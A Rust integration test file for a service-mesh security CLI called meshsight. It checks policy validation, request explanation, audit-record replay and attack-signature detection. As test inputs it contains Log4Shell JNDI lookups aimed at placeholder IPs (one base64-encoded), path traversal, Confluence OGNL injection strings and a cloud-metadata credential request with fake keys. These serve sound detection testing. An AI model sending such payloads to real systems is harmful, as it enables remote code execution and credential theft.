//! Each command of the `meshsight` binary on the fixtures in `cli/fixtures/` (generated mesh
//! traffic as the audit sink writes it, OCSF and ECS, and bad files): output, exit status and
//! the file:line:field of every input error.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::PathBuf;
use std::process::{Command, Output};

fn fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(name)
        .display()
        .to_string()
}

fn meshsight(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_meshsight"))
        .args(args)
        .output()
        .expect("the binary runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn temp(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("meshsight-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir.join(name)
}

#[test]
fn every_command_has_help() {
    for cmd in [
        "check",
        "explain",
        "replay",
        "learn",
        "istio",
        "generate",
        "signatures",
    ] {
        let o = meshsight(&[cmd, "--help"]);
        assert!(o.status.success(), "{cmd}");
        assert!(
            stdout(&o).contains("Usage: meshsight"),
            "{cmd}: {}",
            stdout(&o)
        );
    }
}

#[test]
fn check_passes_a_good_policy_and_names_never_hit_rules() {
    let o = meshsight(&[
        "check",
        &fixture("one_pass.json"),
        "--records",
        &fixture("mesh.ocsf.ndjson"),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("allowlist.rules[3] (legacy): no request of the 300 recorded hit this rule"),
        "{out}"
    );
    assert!(
        out.contains("allowlist.rules[1] (products): overlaps allowlist.rules[0]"),
        "{out}"
    );
    assert!(!out.contains("(health): no request"), "{out}");
    let o = meshsight(&["check", &fixture("one_pass.json"), "--deny-warnings"]);
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn check_refuses_a_bad_policy_with_its_json_path() {
    let bad = temp("bad.json");
    std::fs::write(
        &bad,
        r#"{"allowlist": {"rules": [{"name": "a", "methods": ["get"]}]}}"#,
    )
    .unwrap();
    let o = meshsight(&["check", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("allowlist.rules[0].methods[0]: "),
        "{}",
        stderr(&o)
    );
    // A single job's policy, by role.
    let allow = temp("allow.json");
    std::fs::write(
        &allow,
        r#"{"rules": [{"name": "a", "paths": ["/a/**"]}, {"name": "b", "paths": ["/a/b"]}]}"#,
    )
    .unwrap();
    let o = meshsight(&["check", allow.to_str().unwrap(), "--role", "allowlist"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(
        stdout(&o).contains("warning: rules[1] (b): can never match"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn explain_shows_every_decision_of_the_one_pass() {
    let o = meshsight(&[
        "explain",
        &fixture("one_pass.json"),
        "GET /api/v1/products/../../admin",
        "--host",
        "catalog.shop.svc.cluster.local",
        "-H",
        "user-agent: ${jndi:ldap://203.0.113.5/a}",
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["normalized"]["path"], "/api/admin");
    assert_eq!(v["allowlist"]["decision"]["outcome"], "denied");
    assert_eq!(v["allowlist"]["response_status"], 403);
    assert!(
        v["signatures"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("log4shell")),
        "{v}"
    );
    assert_eq!(v["mirror"]["mirrored"], true);
    assert_eq!(v["audit"]["record"]["class_uid"], 4002);
    assert_eq!(v["audit"]["record"]["is_alert"], true);
    assert_eq!(v["status"], 403);

    // Raw HTTP on standard input; an mTLS peer from `web` is allowed by the first rule.
    let mut child = Command::new(env!("CARGO_BIN_EXE_meshsight"))
        .args([
            "explain",
            &fixture("one_pass.json"),
            "--principal",
            "spiffe://cluster.local/ns/web/sa/frontend",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(
            b"GET /api/v1/./categories HTTP/1.1\r\nHost: catalog.shop.svc.cluster.local\r\n\r\n",
        )
        .unwrap();
    let o = child.wait_with_output().unwrap();
    let out = stdout(&o);
    assert!(
        out.contains("normalized: /api/v1/categories  host catalog.shop.svc.cluster.local"),
        "{out}"
    );
    assert!(
        out.contains("allowlist:  allowed by rule catalog-read"),
        "{out}"
    );
}

#[test]
fn replay_reports_changes_and_fails_on_a_regression() {
    // Records written with a monitor allowlist: nothing was allowed, so no regression.
    let o = meshsight(&[
        "replay",
        &fixture("one_pass.json"),
        &fixture("mesh.ocsf.ndjson"),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stdout(&o).contains("300 records replayed"),
        "{}",
        stdout(&o)
    );
    // Learn from them, then replay against a stricter policy: allowed -> denied fails.
    let learned = meshsight(&["learn", &fixture("mesh.ocsf.ndjson"), "--one-pass"]);
    assert!(learned.status.success(), "{}", stderr(&learned));
    let policy = temp("learned.json");
    std::fs::write(&policy, &learned.stdout).unwrap();
    let rec = temp("allowed.ndjson");
    // A request as if the learned policy had enforced: the record says allowed.
    let e = meshsight(&[
        "explain",
        policy.to_str().unwrap(),
        "GET /healthz",
        "--host",
        "cart.shop.svc.cluster.local",
        "--json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&e.stdout).unwrap();
    assert_eq!(v["allowlist"]["decision"]["outcome"], "allowed");
    let lines = format!("{}\n", v["audit"]["record"]);
    std::fs::write(&rec, &lines).unwrap();
    let strict = temp("strict.json");
    std::fs::write(
        &strict,
        r#"{"rules": [{"name": "only", "paths": ["/only"]}]}"#,
    )
    .unwrap();
    let o = meshsight(&["replay", strict.to_str().unwrap(), rec.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("allowed -> denied: 1"),
        "{}",
        stdout(&o)
    );
    assert!(
        stdout(&o).contains(
            "allowed.ndjson:1: GET cart.shop.svc.cluster.local/healthz allowed -> denied"
        ),
        "{}",
        stdout(&o)
    );
}

#[test]
fn ecs_records_replay_like_ocsf() {
    let o = meshsight(&[
        "replay",
        &fixture("one_pass.json"),
        &fixture("mesh.ecs.ndjson"),
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["records"], 100);
    assert!(v["rule_hits"][0][1].as_u64().unwrap() > 0, "{v}");
}

#[test]
fn bad_records_name_file_line_and_field() {
    let cases = [
        ("empty.ndjson", "empty.ndjson: the file is empty"),
        (
            "bad_json.ndjson",
            "bad_json.ndjson:4: (line): malformed JSON at column",
        ),
        (
            "other_class.ndjson",
            "other_class.ndjson:3: class_uid: a record of OCSF class 4001",
        ),
        (
            "missing_field.ndjson",
            "missing_field.ndjson:2: http_request.url.path: missing field",
        ),
    ];
    for (file, want) in cases {
        let o = meshsight(&["replay", &fixture("one_pass.json"), &fixture(file)]);
        assert_eq!(o.status.code(), Some(2), "{file}");
        assert!(stderr(&o).contains(want), "{file}: {}", stderr(&o));
    }
    // --skip-bad counts and reports them instead.
    let o = meshsight(&[
        "replay",
        &fixture("one_pass.json"),
        &fixture("bad_json.ndjson"),
        "--skip-bad",
    ]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("5 records replayed"), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("skipped 1 bad line(s) (--skip-bad):"),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains("bad_json.ndjson:4: (line): malformed JSON"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn learn_proposes_a_policy_that_passes_check_and_replays_clean() {
    let o = meshsight(&["learn", &fixture("mesh.ocsf.ndjson")]);
    assert!(o.status.success(), "{}", stderr(&o));
    let policy = temp("proposal.json");
    std::fs::write(&policy, &o.stdout).unwrap();
    let c = meshsight(&["check", policy.to_str().unwrap()]);
    assert_eq!(c.status.code(), Some(0), "{}{}", stdout(&c), stderr(&c));
    let r = meshsight(&[
        "replay",
        policy.to_str().unwrap(),
        &fixture("mesh.ocsf.ndjson"),
        "--json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(v["regressions"], 0);
    assert!(stderr(&o).contains("not learned:"), "{}", stderr(&o));
}

#[test]
fn istio_renders_a_wasmplugin() {
    let o = meshsight(&[
        "istio",
        &fixture("one_pass.json"),
        "--namespace",
        "shop",
        "--selector",
        "app=catalog",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let y = stdout(&o);
    assert!(y.contains("kind: WasmPlugin\n"), "{y}");
    assert!(y.contains("  pluginName: meshsight\n"), "{y}");
    assert!(y.contains("      app: catalog\n"), "{y}");
    assert!(y.contains("  failStrategy: FAIL_CLOSE\n"), "{y}");
}

/// The repo's signature corpus, as `signatures test` reads it.
fn corpus() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/corpus/signatures.ndjson")
        .display()
        .to_string()
}

/// A pack with one rule on a canary indicator in the query (`test`: the calling test's own
/// file, as tests run in parallel).
fn canary_pack(test: &str) -> PathBuf {
    let path = temp(&format!("{test}-canary-pack.json"));
    std::fs::write(
        &path,
        r#"{"pack": "soc-weekly", "rules": [{"id": "soc-canary", "name": "canary token",
            "category": "canary", "severity": "high", "references": ["SOC-1"],
            "in": ["query", "params"], "match": {"any": ["meshsight-canary-ioc"]}}]}"#,
    )
    .unwrap();
    path
}

/// Three raw HTTP/1.1 requests: the canary in the query, Log4Shell in a header, a benign GET.
fn raw_requests(test: &str) -> PathBuf {
    let path = temp(&format!("{test}-requests.http"));
    std::fs::write(
        &path,
        "GET /search?q=meshsight-canary-ioc HTTP/1.1\r\nHost: shop\r\n\r\n\
         GET /home HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n\r\n\
         GET /catalog?page=2 HTTP/1.1\r\nHost: shop\r\nUser-Agent: curl/8.5\r\n\r\n",
    )
    .unwrap();
    path
}

/// The rule ids column of each output line (before the summary line).
fn fired(out: &str) -> Vec<String> {
    out.lines()
        .filter(|l| l.contains('\t'))
        .map(|l| l.split('\t').nth(2).unwrap_or_default().to_string())
        .collect()
}

#[test]
fn signatures_test_runs_the_corpus_as_it_expects() {
    let text = std::fs::read_to_string(corpus()).unwrap();
    let hits = text.matches(r#""expect": "hit""#).count();
    let total = text
        .lines()
        .filter(|l| l.trim_start().starts_with('{'))
        .count();
    let o = meshsight(&["signatures", "test", "builtin", &corpus()]);
    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    assert!(
        out.ends_with(&format!(
            "{hits} of {total} requests matched; 0 not as expected\n"
        )),
        "{out}"
    );
    assert!(!out.contains("UNEXPECTED"), "{out}");
}

#[test]
fn signatures_test_layers_a_pack_over_the_builtin_one_and_names_rule_ids() {
    let (pack, requests) = (canary_pack("layers"), raw_requests("layers"));
    let pack = pack.to_str().unwrap();
    let requests = requests.to_str().unwrap();
    let o = meshsight(&["signatures", "test", pack, requests]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows = fired(&stdout(&o));
    assert_eq!(rows.len(), 3, "{}", stdout(&o));
    assert_eq!(rows[0], "soc-canary");
    assert!(rows[1].contains("ms-log4shell-jndi"), "{rows:?}");
    assert_eq!(rows[2], "-");
    assert!(
        stdout(&o).contains("2 of 3 requests matched"),
        "{}",
        stdout(&o)
    );

    // By itself the pack knows nothing of Log4Shell.
    let o = meshsight(&["signatures", "test", pack, requests, "--alone"]);
    assert_eq!(fired(&stdout(&o)), ["soc-canary", "-", "-"]);

    let o = meshsight(&["signatures", "test", pack, requests, "--json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(report["matched"], 2);
    assert_eq!(
        report["requests"][0]["rules"],
        serde_json::json!(["soc-canary"])
    );
    assert_eq!(
        report["requests"][0]["categories"],
        serde_json::json!(["canary"])
    );
    assert_eq!(
        report["requests"][0]["request"]["path"],
        "/search?q=meshsight-canary-ioc"
    );
}

#[test]
fn signatures_test_refuses_a_bad_pack_with_its_json_path() {
    let pack = temp("bad-pack.json");
    std::fs::write(
        &pack,
        r#"{"pack": "x", "rules": [{"id": "a", "name": "a", "category": "c", "severity": "high",
            "in": ["headers"], "match": {"any": ["ok", ""]}}]}"#,
    )
    .unwrap();
    let o = meshsight(&[
        "signatures",
        "test",
        pack.to_str().unwrap(),
        raw_requests("bad-pack").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("rules[0].match.any[1]"),
        "{}",
        stderr(&o)
    );
    assert!(stdout(&o).is_empty(), "{}", stdout(&o));
}

#[test]
fn signatures_test_runs_a_policy_files_signatures_as_the_module_compiles_them() {
    let mut policy: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("one_pass.json")).unwrap()).unwrap();
    let pack: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(canary_pack("policy")).unwrap()).unwrap();
    policy["mirror"]["signatures"] = serde_json::json!({"builtin": false, "packs": [pack]});
    let path = temp("policy-with-pack.json");
    std::fs::write(&path, policy.to_string()).unwrap();
    let requests = raw_requests("policy");
    let o = meshsight(&[
        "signatures",
        "test",
        path.to_str().unwrap(),
        requests.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // `"builtin": false` in the policy: only the pack's rule fires.
    assert_eq!(fired(&stdout(&o)), ["soc-canary", "-", "-"]);

    let o = meshsight(&[
        "signatures",
        "test",
        path.to_str().unwrap(),
        requests.to_str().unwrap(),
        "--alone",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--alone"), "{}", stderr(&o));

    let allowlist_only = temp("allowlist-only.json");
    std::fs::write(
        &allowlist_only,
        serde_json::json!({"allowlist": policy["allowlist"]}).to_string(),
    )
    .unwrap();
    let o = meshsight(&[
        "signatures",
        "test",
        allowlist_only.to_str().unwrap(),
        requests.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("no mirror section"), "{}", stderr(&o));
}

#[test]
fn signatures_test_fails_when_a_request_is_not_as_expected() {
    let requests = temp("expect.ndjson");
    std::fs::write(
        &requests,
        concat!(
            "// a SOC's own regression corpus\n",
            r#"{"name": "canary", "path": "/s?q=meshsight-canary-ioc", "expect": "hit"}"#,
            "\n",
            r#"{"name": "quiet", "path": "/catalog", "expect": "hit"}"#,
            "\n",
            r#"{"name": "bad json", "path": 3}"#,
            "\n",
        ),
    )
    .unwrap();
    let pack = canary_pack("expect");
    let o = meshsight(&[
        "signatures",
        "test",
        pack.to_str().unwrap(),
        requests.to_str().unwrap(),
    ]);
    // The third line is not a request: bad input, named by file and line.
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("expect.ndjson:4"), "{}", stderr(&o));

    let text = std::fs::read_to_string(&requests).unwrap();
    std::fs::write(
        &requests,
        text.lines().take(3).collect::<Vec<_>>().join("\n"),
    )
    .unwrap();
    let o = meshsight(&[
        "signatures",
        "test",
        pack.to_str().unwrap(),
        requests.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let out = stdout(&o);
    assert!(
        out.contains("quiet\tGET /catalog\t-\tUNEXPECTED (expected hit)"),
        "{out}"
    );
    assert!(out.contains("1 not as expected"), "{out}");
}

#[test]
fn signatures_test_scans_responses_with_the_response_rules() {
    let path = temp("responses-requests.ndjson");
    std::fs::write(
        &path,
        concat!(
            r#"{"name": "ognl-worked", "method": "POST", "path": "/pages/createpage-entervariables.action?queryString=%5cu0027%2b%23%7b1%7d", "expect": "hit", "response": {"body": "uid=0(root) gid=0(root) groups=0(root)", "expect": "hit"}}"#,
            "\n",
            r#"{"name": "imds", "path": "/latest/meta-data/iam/security-credentials/r", "headers": {"host": "169.254.169.254"}, "response": {"body": "{\"AccessKeyId\":\"ASIAQWERTYUIOPASDFGH\",\"SecretAccessKey\":\"wJalrXUtnFEMIK7MDENGbPxRfiCYzSECRET\",\"Token\":\"IQoJb3JpZ2luX2VjEJr\"}", "expect": "hit"}}"#,
            "\n",
            r#"{"name": "token-json", "path": "/api/session", "response": {"body": "{\"token\":\"abc\",\"csrf_token\":\"d\"}", "expect": "miss"}}"#,
            "\n",
        ),
    )
    .unwrap();
    let requests = path.to_str().unwrap();
    let o = meshsight(&["signatures", "test", "builtin", requests]);
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(0), "{out}{}", stderr(&o));
    assert!(
        out.contains("response succeeded: ms-resp-shell-id-output,ms-resp-shell-root-id"),
        "{out}"
    );
    assert!(
        out.contains("response succeeded: ms-resp-aws-imds-credentials"),
        "{out}"
    );
    assert!(
        out.contains("token-json\tGET /api/session\t-\tresponse none: -"),
        "{out}"
    );
    // The secret is named nowhere in the report.
    assert!(
        !out.contains("wJalrXUtnFEMIK7MDENGbPxRfiCYzSECRET"),
        "{out}"
    );
    let o = meshsight(&["signatures", "test", "builtin", requests, "--json"]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(report["requests"][0]["response"]["techniques"][0], "T1059");
    assert_eq!(
        report["requests"][1]["response"]["techniques"][0],
        "T1552.005"
    );
    // A response expectation that fails makes the run fail.
    std::fs::write(
        &path,
        r#"{"path": "/x", "response": {"body": "nothing here", "expect": "hit"}}"#,
    )
    .unwrap();
    let o = meshsight(&["signatures", "test", "builtin", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
}

#[test]
fn signatures_test_names_the_decoded_view_a_hit_came_from_and_decoding_findings() {
    let requests = temp("decoded.ndjson");
    // base64("${jndi:ldap://x/a}:pw"); a multipart body with no closing delimiter.
    std::fs::write(
        &requests,
        concat!(
            r#"{"name": "basic", "path": "/admin", "headers": [["authorization", "Basic JHtqbmRpOmxkYXA6Ly94L2F9OnB3"]]}"#,
            "\n",
            r#"{"name": "form", "method": "POST", "path": "/pages/createpage-entervariables.action", "headers": [["content-type", "multipart/form-data; boundary=b"]], "body": "--b\r\nContent-Disposition: form-data; name=\"queryString\"\r\n\r\n#{1}\r\n"}"#,
            "\n"
        ),
    )
    .unwrap();
    let o = meshsight(&["signatures", "test", "builtin", requests.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("ms-log4shell-jndi@headers.credentials"),
        "{out}"
    );
    assert!(
        out.contains("ms-confluence-26084-ognl-marker@body.multipart [multipart_malformed]"),
        "{out}"
    );
    let o = meshsight(&[
        "signatures",
        "test",
        "builtin",
        requests.to_str().unwrap(),
        "--json",
    ]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(
        report["requests"][1]["views"],
        serde_json::json!(["body.multipart"])
    );
    assert_eq!(
        report["requests"][1]["findings"],
        serde_json::json!(["multipart_malformed"])
    );
}
